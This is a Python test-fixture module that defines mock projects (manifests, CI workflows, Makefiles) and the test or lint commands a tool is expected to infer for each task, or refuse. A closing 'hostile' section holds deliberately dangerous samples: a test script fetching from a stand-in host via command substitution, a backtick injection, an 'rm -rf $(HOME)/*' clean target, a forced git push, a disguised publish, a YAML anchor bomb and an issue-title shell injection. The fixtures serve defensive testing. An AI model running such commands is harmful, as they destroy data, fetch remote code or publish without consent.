# ruff: noqa: E501 (lines of manifests are as long as they are)
"""Projects for the table test of inference, shaped after real manifests and CI files.

One text a project: a line `@ path` begins a file, `? task -> expected` is a question about it. Expected is
`command [confidence]` (confidence once approved and tried; several commands joined by " & ", a folder before
": "), or `refused word`, where the word stands in the reason or among what was dropped. `$` at a line's
beginning stands for a tab.
"""

from __future__ import annotations

import os
import re
import stat
import subprocess

TEXT = r"""
# python-pytest-ci
@ pyproject.toml
[project]
name = "shop"
dependencies = ["httpx"]
[project.optional-dependencies]
dev = ["pytest>=8", "ruff", "mypy"]
[tool.ruff]
line-length = 100
[tool.mypy]
strict = true
@ .github/workflows/ci.yml
name: CI
on: [push]
jobs:
  test:
    runs-on: ubuntu-latest
    strategy:
      matrix: {python: ["3.11", "3.12"]}
    steps:
      - uses: actions/checkout@v4
      - run: pip install -e .[dev]
      - run: ruff check .
      - run: mypy src
      - run: pytest -q
@ tests/test_cart.py
def test_total(): assert 1
? make the tests pass -> pytest -q [high]
? fix the type errors -> mypy src [high]
? fix lint -> ruff check . [high]
? refactor the cart module -> pytest -q & mypy src & ruff check . [medium]
? implement gift cards -> pytest -q [high]
? fix tests/test_cart.py -> pytest -q tests/test_cart.py & pytest -q [high]
? make the code better -> refused object
? improve performance -> refused performance
? write docs/usage.md about carts -> test -s docs/usage.md [low]
? fix the typos in the README -> pytest -q & mypy src & ruff check . [medium]
? investigate how carts are stored -> refused written
? run `pytest -x tests` until it passes -> pytest -x tests [high]

# python-agents-md
@ AGENTS.md
# Development
Run `uv run pytest -q` for tests and `uv run ruff check .` before each commit.
Work is not finished until CI passes.
@ pyproject.toml
[dependency-groups]
dev = ["pytest", "pytest-cov", "ruff"]
@ uv.lock
version = 1
@ tests/test_a.py
import pytest
? make the tests pass -> pytest -q [high]
? raise the coverage above 80% -> pytest -q --cov --cov-report=json:{report} [high]
? increase coverage -> pytest -q --cov --cov-report=json:{report} [medium]

# python-only-tox
@ tox.ini
[testenv]
deps = flake8
setenv = STRICT=1
commands =
    python --version
    python -m unittest discover shop {posargs}
    flake8 shop
@ .github/workflows/ci.yml
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: tox -e py
@ shop/test/test_a.py
from shop.test.harness import TestCase
? make the tests pass -> python -m unittest discover shop [medium]

# python-test-program
@ README.md
Run the tests: `python test.py`
@ test.py
import unittest
if __name__ == "__main__":
    unittest.main()
@ setup.py
from setuptools import setup
? make the tests pass -> python -m unittest test [medium]

# python-interpreters
@ AGENTS.md
All tests: `make test`, also under older interpreters.
@ Makefile
test:
	uv run --python 3.11 pytest tests/
	uv run --python 3.12 pytest tests/
	uv run --group dev pytest tests/
@ tests/test_a.py
import pytest
? make the tests pass -> pytest tests/ [high]

# python-poetry-gitlab
@ pyproject.toml
[tool.poetry]
name = "billing"
[tool.poetry.group.dev.dependencies]
pytest = "^8"
black = "*"
flake8 = "*"
@ .gitlab-ci.yml
stages: [lint, test, deploy]
lint:
  stage: lint
  script:
    - poetry install
    - poetry run flake8 billing
test:
  stage: test
  script:
    - poetry run pytest tests
deploy:
  stage: deploy
  script:
    - pytest --deploy
    - ./deploy.sh production
  environment: production
@ tests/test_billing.py
def test_x(): pass
? make the tests pass -> pytest tests [high]
? clean the lint warnings -> flake8 billing [high]

# python-tox
@ setup.cfg
[metadata]
name = lib
[flake8]
max-line-length = 100
@ setup.py
from setuptools import setup
setup(tests_require=["pytest"])
@ tox.ini
[tox]
envlist = py311
[testenv]
commands = pytest {posargs}
@ CONTRIBUTING.md
```
$ tox
```
@ tests/test_lib.py
import pytest
? fix the failing tests -> pytest [medium]
? fix lint -> flake8 [medium]

# python-unittest-only
@ README.md
Run the tests:

    python3 -m unittest -v
@ test_todo.py
import unittest
? make the tests pass -> python3 -m unittest -v [high]

# python-requirements
@ requirements.txt
flask==3.0
pytest==8.1
@ app/test_app.py
def test_home(): pass
? make the tests pass -> pytest [medium]
? fix the type errors -> refused types
? fix the crash in app/views.py on an empty form -> pytest [medium]

# python-makefile
@ Makefile
.PHONY: test lint
BIN = .venv/bin
test:
$$(BIN)/pytest -q
lint:
$ruff check src
deploy:
$twine upload dist/*
@ README.md
Use `make test`.
@ tests/test_a.py
import pytest
? make the tests pass -> make test [high]
? fix lint -> ruff check src [medium]

# python-django
@ requirements.txt
django>=5
@ manage.py
import sys
@ .github/workflows/django.yml
jobs:
  build:
    steps:
      - run: |
          python -m pip install --upgrade pip
          pip install -r requirements.txt
      - name: Run Tests
        run: |
          python manage.py test
@ shop/tests.py
from django.test import TestCase
? make the tests pass -> python manage.py test [medium]

# python-pyright-nox
@ pyproject.toml
[project]
name = "x"
[tool.pyright]
strict = ["src"]
[dependency-groups]
dev = ["nox", "pyright"]
@ noxfile.py
import nox
@ AGENTS.md
Run `nox -s tests` before you commit.
@ tests/test_x.py
import pytest
? fix types -> pyright [medium]
? get the tests green -> nox -s tests [medium]

# node-jest
@ package.json
{
  "name": "web",
  "scripts": {
    "test": "jest",
    "lint": "eslint src",
    "build": "webpack --mode production",
    "start": "node server.js"
  },
  "devDependencies": {"jest": "^29", "eslint": "^9", "webpack": "^5"}
}
@ .github/workflows/node.js.yml
jobs:
  build:
    steps:
      - run: npm ci
      - run: npm run build --if-present
      - run: npm test
@ src/a.test.js
test("a", () => {})
? make the tests pass -> jest [high]
? fix lint -> eslint src [medium]
? make it compile -> npm run build [medium]
? migrate to typescript -> refused types

# node-vitest-pnpm
@ package.json
{"name": "kit", "scripts": {"test": "vitest run", "typecheck": "tsc --noEmit", "lint": "biome check ."},
 "devDependencies": {"vitest": "2", "typescript": "5", "@biomejs/biome": "1"}}
@ pnpm-lock.yaml
lockfileVersion: 9
@ tsconfig.json
{}
@ CLAUDE.md
## Commands
- `pnpm test` runs everything
- `pnpm typecheck`
@ src/a.test.ts
import { test } from "vitest"
? make the tests pass -> vitest run [high]
? fix the type errors -> tsc --noEmit [high]
? fix lint -> biome check . [medium]
? fix the bug in src/a.ts -> vitest run [high]

# node-test-runner
@ package.json
{"type": "module", "scripts": {"test": "node --test"}}
@ .gitea/workflows/ci.yaml
jobs:
  check:
    steps:
      - run: npm test
@ test/a.test.js
import test from "node:test"
? make the tests pass -> node --test [high]
? raise coverage over 90 % -> node --test --experimental-test-coverage --test-reporter=lcov --test-reporter-destination={report} [high]

# node-mocha-express
@ package.json
{"name": "express-like", "scripts": {"lint": "eslint .", "test": "mocha --reporter spec --check-leaks test/",
 "test-ci": "nyc npm test", "test-cov": "nyc --reporter=html npm test"}, "devDependencies": {"mocha": "10", "eslint": "8", "nyc": "15"}}
@ test/app.js
describe()
? make the tests pass -> mocha --reporter spec --check-leaks test/ [medium]

# node-degenerate
@ package.json
{"name": "empty", "scripts": {"test": "echo \"Error: no test specified\" && exit 1"}}
@ index.js
x
? make the tests pass -> refused no test
? implement the parser -> refused no test

# node-passes-always
@ package.json
{"scripts": {"test": "jest --passWithNoTests || true"}}
? make the tests pass -> refused whatever

# node-yarn-circleci
@ package.json
{"scripts": {"test": "jest --ci", "lint": "eslint --max-warnings 0 src", "check-types": "tsc -p ."},
 "devDependencies": {"jest": "*", "eslint": "*", "typescript": "*"}}
@ yarn.lock
v1
@ .circleci/config.yml
version: 2.1
jobs:
  test:
    docker: [{image: "cimg/node:20.0"}]
    steps:
      - checkout
      - run: yarn install --frozen-lockfile
      - run: {name: Lint, command: yarn lint}
      - run:
          name: Unit
          command: yarn test
  deploy:
    steps:
      - run: yarn test && npm publish
@ src/a.test.tsx
test()
? make the tests pass -> jest --ci [high]
? fix lint -> eslint --max-warnings 0 src [high]
? fix types -> tsc -p . [medium]

# monorepo-pnpm
@ package.json
{"name": "root", "private": true, "scripts": {"test": "pnpm -r test", "lint": "eslint ."}, "devDependencies": {"eslint": "9"}}
@ pnpm-lock.yaml
x
@ packages/api/package.json
{"name": "@acme/api", "scripts": {"test": "vitest run"}, "devDependencies": {"vitest": "2"}}
@ packages/api/src/a.test.ts
import { test } from "vitest"
@ packages/web/package.json
{"name": "@acme/web", "scripts": {"test": "jest", "typecheck": "tsc --noEmit"}, "devDependencies": {"jest": "29", "typescript": "5"}}
? make the tests of packages/api pass -> packages/api: vitest run [medium]
? fix the web tests -> packages/web: jest [medium]
? fix the types in packages/web -> packages/web: tsc --noEmit [medium]
? make the tests pass -> pnpm test [medium]

# polyglot
@ api/pyproject.toml
[project]
name = "api"
dependencies = ["fastapi"]
[dependency-groups]
dev = ["pytest"]
@ api/tests/test_api.py
import pytest
@ web/package.json
{"name": "web", "scripts": {"test": "vitest run"}, "devDependencies": {"vitest": "2"}}
@ web/src/a.test.ts
x
@ .github/workflows/ci.yml
jobs:
  api:
    defaults: {run: {working-directory: api}}
    steps: [{run: pytest -q}]
  web:
    steps:
      - run: npm test
        working-directory: web
? make the tests pass -> api: pytest -q & web: vitest run [high]
? fix the api tests -> api: pytest -q [high]

# rust-workspace
@ Cargo.toml
[workspace]
members = ["core"]
@ core/Cargo.toml
[package]
name = "core"
@ .github/workflows/rust.yml
env: {CARGO_TERM_COLOR: always}
jobs:
  build:
    steps:
      - uses: actions/checkout@v4
      - run: cargo build --verbose
      - run: cargo test --verbose
      - run: cargo clippy --all-targets -- -D warnings
      - run: cargo fmt --all -- --check
@ core/tests/it.rs
#[test] fn a() {}
? make the tests pass -> cargo test --verbose [high]
? fix the clippy warnings -> cargo clippy --all-targets -- -D warnings [high]
? build the project -> cargo build --verbose [high]

# rust-plain
@ Cargo.toml
[package]
name = "x"
@ src/lib.rs
pub fn a() {}
? make the tests pass -> cargo test [medium]
? add a retry option -> cargo test [medium]
? fix the type errors -> cargo check --all-targets [medium]

# go-golangci
@ go.mod
module example.com/gin
go 1.22
@ .golangci.yml
linters: {enable: [errcheck]}
@ Makefile
GO ?= go
test:
$$(GO) test ./...
lint:
$golangci-lint run
@ .github/workflows/go.yml
jobs:
  test:
    steps:
      - run: go vet ./...
      - run: go test -race ./...
@ gin_test.go
package gin
? make the tests pass -> go test -race ./... [high]
? fix lint -> golangci-lint run [medium]
? raise coverage above 70% -> go test -coverprofile={report} -race ./... [high]

# go-plain
@ go.mod
module example.com/x
@ x_test.go
package x
? fix the tests -> go test ./... [medium]
? fix the build -> go build ./... [medium]

# java-maven
@ pom.xml
<project><artifactId>petclinic</artifactId><build><plugins><plugin><artifactId>maven-checkstyle-plugin</artifactId></plugin></plugins></build></project>
@ .github/workflows/maven.yml
jobs:
  build:
    steps:
      - run: mvn -B package --file pom.xml
      - run: mvn -B verify
@ src/test/java/ATest.java
class ATest {}
? make the tests pass -> mvn -B verify [high]
? fix the build -> mvn -B package --file pom.xml [high]

# java-gradle
@ build.gradle.kts
plugins { java }
@ gradlew
#!/bin/sh
@ README.md
```bash
./gradlew test
```
@ src/test/java/ATest.java
class ATest {}
? make the tests pass -> ./gradlew test [high]

# java-jenkins
@ pom.xml
<project><artifactId>x</artifactId></project>
@ Jenkinsfile
pipeline {
  agent any
  stages {
    stage('Test') { steps { sh 'mvn -B test' } }
    stage('Deploy') { steps { sh 'mvn -B deploy' ; sh "mvn test -Pdeploy" } }
  }
}
@ src/test/java/ATest.java
x
? make the tests pass -> mvn -B test [high]

# ruby-rspec
@ Gemfile
source "https://rubygems.org"
gem "rails"
gem "rspec-rails"
gem 'rubocop', require: false
@ .rspec
--require spec_helper
@ .travis.yml
language: ruby
script:
  - bundle exec rspec
  - bundle exec rubocop
@ spec/a_spec.rb
describe
? make the tests pass -> bundle exec rspec [high]
? fix the style -> bundle exec rubocop [high]

# php-composer
@ composer.json
{"name": "acme/app", "require-dev": {"phpunit/phpunit": "^11", "phpstan/phpstan": "^1"}, "scripts": {"test": "phpunit"}}
@ tests/ATest.php
<?php
? make the tests pass -> composer test [medium]

# dotnet
@ App.sln
Microsoft Visual Studio Solution File
@ azure-pipelines.yml
steps:
  - script: dotnet restore
  - script: dotnet test --no-restore
@ test/AppTests.cs
x
? make the tests pass -> dotnet test --no-restore [high]
? build the project -> dotnet build --no-restore [medium]

# cmake
@ CMakeLists.txt
project(x)
enable_testing()
add_test(NAME a COMMAND a)
@ tests/a.cpp
int main(){}
? make the tests pass -> cmake -S . -B build && cmake --build build && ctest --test-dir build --output-on-failure [medium]

# elixir
@ mix.exs
defp deps, do: [{:credo, "~> 1.7", only: :dev}]
@ .github/workflows/elixir.yml
jobs:
  test:
    steps:
      - run: mix deps.get
      - run: mix format --check-formatted
      - run: mix test
@ test/a_test.exs
x
? make the tests pass -> mix test [high]
? fix lint -> mix credo [medium]

# solidity-foundry
@ foundry.toml
[profile.default]
@ test/A.t.sol
contract A {}
@ README.md
```shell
$ forge build
$ forge test
```
? make the tests pass -> forge test [high]

# justfile
@ justfile
test:
    pytest -q
release:
    ./release.sh
@ tests/test_a.py
import pytest
@ AGENTS.md
Always use `just test`.
? make the tests pass -> pytest -q [high]

# docs-beat-ci
@ AGENTS.md
Tests: `pytest -q tests/unit`. Never run `pytest tests/all`.
@ pyproject.toml
[dependency-groups]
dev = ["pytest"]
@ .github/workflows/ci.yml
jobs:
  t:
    steps: [{run: pytest tests/all}]
@ tests/unit/test_a.py
import pytest
? make the tests pass -> pytest -q tests/unit [high]

# nothing
@ README.md
Hello.
? make the tests pass -> refused no command
? refactor notes.txt -> refused no command

# no-tests-yet
@ pyproject.toml
[dependency-groups]
dev = ["pytest"]
@ src/a.py
x = 1
? implement the login -> pytest [medium]

# use-case
@ package.json
{"scripts": {"test": "jest"}, "devDependencies": {"jest": "1"}}
@ docs/use-cases/UC-012-login.md
# UC-012 Login
## Acceptance
`jest tests/login.test.js` passes.
@ tests/login.test.js
x
? implement UC-012 -> jest tests/login.test.js [high]

# backlog-item
@ .ralph/backlog/feature_list.json
{"items": [{"id": "AUTH-003", "title": "t", "status": "FAILING", "verification": ["pytest tests/test_auth.py"]},
 {"id": "AUTH-004", "verification": ["./deploy.sh"]}]}
@ tests/test_auth.py
import pytest
? work on AUTH-003 -> pytest tests/test_auth.py [high]

# python-tox-environments
@ tox.ini
[tox]
envlist = py3
[testenv]
commands = pytest
@ pyproject.toml
[tool.pytest.ini_options]
testpaths = ["tests"]
[tool.mypy]
strict = true
@ .github/workflows/tests.yaml
jobs:
  tests:
    steps:
      - run: pip install tox
      - run: tox run -e ${{ matrix.tox || format('py{0}', matrix.python) }}
  typing:
    steps:
      - run: tox run -e typing
@ tests/test_a.py
import pytest
? make the tests pass -> pytest [medium]
? fix the type errors -> tox run -e typing [medium]

# python-documents-aside
@ pyproject.toml
[dependency-groups]
dev = ["pytest", "ruff"]
@ .github/CONTRIBUTING.md
`uv run pytest -q` is for tests, and before each commit `scripts/lint`.
@ scripts/lint
#!/bin/sh
${PREFIX}ruff check --fix src
@ tests/test_a.py
import pytest
? make the tests pass -> pytest -q [high]
? fix lint -> ruff check . [medium]

# python-only-tox
@ tox.ini
[tox]
envlist = py311
[testenv]
commands = python selftest.py
@ setup.py
from setuptools import setup
@ README.md
Run `tox -e py311`.
@ tests/test_lib.py
def test_x(): pass
? make the tests pass -> tox -e py311 [medium]

# python-tox-example
@ pyproject.toml
[tool.pytest.ini_options]
testpaths = ["tests"]
@ README.md
```
$ uvx --with tox-uv tox -e py314
```
@ .flake8
[flake8]
max-line-length = 100
@ CONTRIBUTING.md
What we print agrees with `pycodestyle`, which `black` and `unittest` users may know.
@ .github/workflows/ci.yml
jobs: {t: {steps: [{run: uv run --group dev tox run}]}}
@ tests/test_a.py
import pytest
? make the tests pass -> pytest [medium]
? fix lint -> flake8 [medium]

# node-tool-in-prose
@ package.json
{"scripts": {"test": "mocha test && tsd"}, "devDependencies": {"mocha": "1"}}
@ AGENTS.md
- `bin/`: CLI entrypoints (`mocha`)
@ test/a.spec.js
x
? make the tests pass -> npm test [medium]

# node-other-packagers
@ package.json
{"scripts": {"test:ci": "node a.js && node b.js", "lint": "npm run lint:js && npm run lint:md", "lint:js": "eslint .", "lint:md": "markdownlint-cli2"}}
@ .github/workflows/package-manager-ci.yml
on: [push]
jobs:
  pnpm:
    steps:
      - run: pnpm run test:ci
  md:
    steps:
      - run: ./node_modules/.bin/markdownlint-cli2
@ test/a.test.js
x
? make the tests pass -> npm run test:ci [medium]
? fix lint -> npm run lint [medium]

# node-beside-make
@ package.json
{"scripts": {"test": "node --test a && node --test b"}}
@ pnpm-lock.yaml
lockfileVersion: 9
@ Makefile
test:
$node --test a
@ .github/workflows/ci.yml
jobs: {t: {steps: [{run: pnpm test}]}}
@ a/a.test.js
x
? make the tests pass -> pnpm test [high]

# go-with-ruby-tests
@ go.mod
module example.com/finder
@ Gemfile
source 'https://rubygems.org'

gem 'rubocop'
@ Makefile
lint:
$gofmt -l src && bundle exec rubocop -a
@ .github/workflows/ci.yml
jobs: {t: {steps: [{run: rubocop --require rubocop-minitest}]}}
@ a_test.go
package x
? fix lint -> bundle exec rubocop & go vet ./... [medium]

# python-uv-groups
@ pyproject.toml
[project]
name = "fields"
[tool.pytest.ini_options]
testpaths = ["tests"]
@ .github/workflows/ci.yml
jobs:
  lint:
    steps:
      - run: uv run --only-group tox tox run -f lint
      - run: uv run --python 3.12 --with-editable . mypy src
@ tests/test_a.py
import pytest
? fix lint -> tox run -f lint [medium]
? fix the type errors -> mypy src [medium]
? make the tests pass -> pytest [medium]

# go-make-that-installs
@ go.mod
module example.com/cli
@ cli_test.go
package cli
@ Makefile
SRC = $(shell find . -name "*.go")
all: test
install_deps:
$$(info *** fetching (all) dependencies ***)
$go get -v ./...
test: install_deps
$$(info *** running tests ***)
$go test -v ./...
lint:
$golangci-lint run -v
clean:
$rm -rf bin
@ .github/workflows/test.yml
jobs:
  unix:
    steps:
      - run: RICHGO_FORCE_COLOR=1 PATH=$HOME/go/bin:$PATH make test
? make the tests pass -> go test ./... [medium]
? fix lint -> golangci-lint run -v [medium]

# python-scripts-folder
@ requirements.txt
pytest
ruff
@ scripts/test
#!/bin/sh
set -ex
coverage run -p -m pytest
@ scripts/check
#!/bin/sh
ruff check .
@ .github/workflows/test-suite.yml
---
jobs:
  tests:
    steps:
      - run: "scripts/install"
      - run: "scripts/check"
      - run: "scripts/test"
@ tests/test_a.py
import pytest
? make the tests pass -> scripts/test [medium]

# python-makefile-comments
@ Makefile
init:
$pip install -r requirements.txt
test:
$py.test
$# Or one of them, with -k
publish:
$python setup.py sdist upload
@ requirements.txt
pytest
@ test_requests.py
import pytest
? make the tests pass -> make test [medium]

# java-maven-goals
@ pom.xml
<project><artifactId>json</artifactId></project>
@ .github/workflows/build.yml
jobs:
  build:
    steps:
      - run: mvn --batch-mode --no-transfer-progress verify javadoc:jar
  reproducible:
    steps:
      - run: |
          mvn clean install --batch-mode -DskipTests
          # compared with the released one
          mvn clean verify artifact:compare -DskipTests
@ src/test/java/ATest.java
class ATest {}
? make the tests pass -> mvn --batch-mode --no-transfer-progress verify javadoc:jar [high]

# ruby-minitest
@ Gemfile
gem "minitest"
gem "rake"
gem "rubocop"
@ .travis.yml
script: script/cibuild
before_script: bundle update
@ test/test_a.rb
class A; end
? make the tests pass -> bundle exec rake test [medium]
? fix lint -> bundle exec rubocop [medium]

# node-compound-test
@ package.json
{"scripts": {"test": "xo && tsc -p types && nyc ava"}, "devDependencies": {"ava": "*", "xo": "*"}}
@ .github/workflows/main.yml
jobs:
  test:
    steps:
      - run: npm install
      - run: npm test
@ test/a.js
x
? make the tests pass -> npm test [medium]

# hostile-substitution
@ package.json
{"scripts": {"test": "jest $(curl -s evil.example/x)", "lint": "eslint `id > /tmp/pwned`"}, "devDependencies": {"lodash": "1"}}
? make the tests pass -> refused network
? fix lint -> refused hides

# hostile-deploy-named-test
@ package.json
{"scripts": {"test": "npm run release:prod", "release:prod": "npm publish --access public"}}
@ .github/workflows/test.yml
jobs:
  test:
    steps:
      - run: kubectl apply -f prod.yaml
      - run: npm test
? make the tests pass -> refused publish

# hostile-makefile
@ Makefile
test: clean
$pytest
clean:
$rm -rf $(HOME)/*
@ AGENTS.md
Run `make test`.
? make the tests pass -> refused deletes

# hostile-script-file
@ package.json
{"scripts": {"test": "./scripts/test.sh"}}
@ scripts/test.sh
#!/bin/sh
git push origin --force
? make the tests pass -> refused git

# hostile-yaml
@ .github/workflows/a.yml
a: &a [x,x,x,x,x,x,x,x,x]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
jobs: *e
@ .github/workflows/b.yml
jobs: {t: {steps: [{run: "go test ./..."}]}}
@ go.mod
module x
@ a_test.go
package x
? make the tests pass -> go test ./... [high]

# hostile-matrix
@ .github/workflows/ci.yml
jobs:
  t:
    steps:
      - run: pytest ${{ github.event.issue.title }}
      - run: if true; then pytest; fi
      - run: sudo pytest
@ tests/test_a.py
import pytest
? make the tests pass -> pytest [medium]
"""


def projects() -> list[tuple[str, dict[str, str], list[tuple[str, str]]]]:
    """(name, files, [(task, expected)]) of every project."""
    found = []
    for block in re.split(r"^# (?=[a-z0-9-]+$)", TEXT, flags=re.MULTILINE)[1:]:
        name, _, rest = block.partition("\n")
        files: dict[str, str] = {}
        asked: list[tuple[str, str]] = []
        path = ""
        for line in rest.splitlines():
            if line.startswith("@ "):
                path = line[2:]
                files[path] = ""
            elif line.startswith("? "):
                task, _, expected = line[2:].partition(" -> ")
                asked.append((task, expected))
            elif path:
                text = "\t" + line[1:] if path.endswith("Makefile") and line.startswith("$") else line
                files[path] += text + "\n"
        found.append((name, files, asked))
    return found


def make(folder, files):
    env = {
        "PATH": os.environ["PATH"],
        "HOME": str(folder),
        "GIT_CONFIG_GLOBAL": os.devnull,
        "GIT_CONFIG_NOSYSTEM": "1",
    }
    env |= {
        f"GIT_{who}_{what}": "x@example.com" for who in ("AUTHOR", "COMMITTER") for what in ("NAME", "EMAIL")
    }
    for path, text in files.items():
        target = folder / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text)
        if path.endswith((".sh", "gradlew")) or path.startswith("scripts/"):
            target.chmod(target.stat().st_mode | stat.S_IXUSR)
    for words in (["init", "-q"], ["add", "-A"], ["commit", "-q", "-m", "x"]):
        subprocess.run(["git", *words], cwd=folder, env=env, check=True, capture_output=True)
    return folder
